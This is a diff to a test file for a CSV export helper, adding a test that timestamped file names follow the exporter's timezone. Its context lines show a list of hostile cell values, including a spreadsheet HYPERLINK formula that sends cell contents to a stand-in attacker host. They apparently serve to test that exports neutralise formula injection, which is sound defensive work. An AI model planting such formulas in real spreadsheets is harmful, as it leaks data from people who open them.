@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { parse } from "csv-parse/sync";
-import { csvDownload } from "./csv";
+import { csvDownload, stampedCsvName } from "./csv";
 
 const HOSTILE = [
   '=HYPERLINK("https://evil.example?"&A1,"open")',
@@ -39,4 +39,12 @@ describe("csvDownload", () => {
       expect(row).toEqual(["-12.50", "-7", "12.50", "ch_1", "ref-1", "a=b", "", "-0.5"]);
     });
   }
+});
+
+describe("stampedCsvName", () => {
+  it("names the file by the exporting person's clock, not UTC", () => {
+    const at = new Date("2026-11-26T21:45:31Z");
+    expect(stampedCsvName("transactions", "Asia/Shanghai", at)).toBe("transactions-2026-11-27-05-45-31.csv");
+    expect(stampedCsvName("audit", "UTC", at)).toBe("audit-2026-11-26-21-45-31.csv");
+  });
 });
